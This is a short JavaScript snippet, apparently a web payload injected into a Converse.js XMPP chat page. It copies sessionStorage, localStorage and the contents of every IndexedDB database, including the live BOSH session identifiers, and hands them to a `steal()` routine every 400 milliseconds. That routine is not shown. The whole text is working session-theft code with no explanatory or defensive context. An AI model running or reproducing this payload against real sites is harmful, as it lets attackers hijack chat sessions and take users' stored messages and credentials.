// Tries: copy sessionStorage, localStorage and every IndexedDB, with the live BOSH sid and rid.
(() => {
  const areas = () => {
    const all = {};
    for (const name of ["sessionStorage", "localStorage"]) {
      try {
        all[name] = { ...window[name] };
      } catch (error) {
        all[name] = String(error);
      }
    }
    return all;
  };
  const opened = (name) =>
    new Promise((done) => {
      const request = indexedDB.open(name);
      request.onsuccess = () => done(request.result);
      request.onerror = () => done(null);
    });
  const rows = (store) =>
    new Promise((done) => {
      const request = store.getAll();
      request.onsuccess = () => done(request.result);
      request.onerror = () => done([]);
    });
  const databases = async () => {
    const all = {};
    const known = indexedDB.databases ? (await indexedDB.databases()).map((d) => d.name) : ["conversejs-persistent", "localforage"];
    for (const name of known) {
      const db = await opened(name);
      if (!db) continue;
      for (const store of db.objectStoreNames) all[`${name}/${store}`] = await rows(db.transaction(store).objectStore(store));
      db.close();
    }
    return all;
  };
  const look = async () => {
    let found = {};
    try {
      found = await databases();
    } catch (error) {
      found = String(error);
    }
    steal("copy-storage", JSON.stringify({ ...areas(), found }));
  };
  setInterval(look, 400);
})();
